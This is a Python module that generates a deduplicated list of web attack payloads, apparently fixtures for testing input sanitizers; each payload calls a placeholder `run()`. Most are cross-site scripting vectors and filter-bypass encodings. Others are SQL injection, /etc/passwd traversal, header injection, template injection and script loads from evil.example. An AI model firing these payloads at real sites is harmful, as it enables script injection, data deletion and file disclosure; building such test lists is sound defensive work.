"""Two hundred and more payloads, written after the classes that OWASP's cheat sheets name; each would call `run()`."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

__all__ = ["PAYLOADS"]

_CALL = "run()"
_ENCODED = ("run()", "run`1`", "top['ru'+'n']()", "(0,run)()", "&#114;un()", "\\u0072un()", "%72un()")
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=data:text/javascript,{}></script>",
    "<script\x20type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</noscript><script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<embed src='data:text/html,<script>{}</script>'>",
    "<base href='//evil.example/'><script src=x.js></script>{}",
    "<template><script>{}</script></template>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
)
_HANDLERS = (
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<img src=x onerror\x0a=\x0a{}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<div style=animation-name:x onanimationstart={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<object onerror={} data=x>",
    "<style onload={}></style>",
    "<iframe onload={}></iframe>",
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    "` onerror={} x=`",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    "&quot;><img src=x onerror={}>",
    "&#34;&#62;<img src=x onerror={}>",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "&#106;avascript:{}",
    "javascript://example.org/%0a{}",
    "vbscript:{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml,<svg onload={}>",
    'https://example.org/"onmouseover={}',
    "https://example.org/'><script>{}</script>",
    "//evil.example/{}",
    "https://evil.example@example.org/{}",
)
_INJECTED = (
    "{{{{7*7}}}}{}",
    "{{% print(7*7) %}}{}",
    "${{7*7}}{}",
    "#{{7*7}}{}",
    "<%= 7*7 %>{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "'; DROP TABLE posts; --{}",
    '" OR 1=1 --{}',
    "%0d%0aSet-Cookie:%20a={}",
    "\r\nContent-Type: text/html\r\n\r\n<script>{}</script>",
    "..%2f..%2fetc%2fpasswd{}",
    "\x00<script>{}</script>",
    "\u2028<script>{}</script>",
    "\u202e<script>{}</script>",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<style>@import'//evil.example/{}';</style>",
    '<p style="background:url(javascript:{})">',
    "<a href=x download onclick={}>a</a>",
)


def _all() -> Iterator[str]:
    for shape in (*_ELEMENTS, *_HANDLERS, *_ADDRESSES, *_INJECTED):
        yield shape.format(_CALL)
    for shape, call in product((*_ELEMENTS[:4], *_HANDLERS[:8], *_ADDRESSES[:8]), _ENCODED[1:]):
        yield shape.format(call)


PAYLOADS = tuple(dict.fromkeys(_all()))
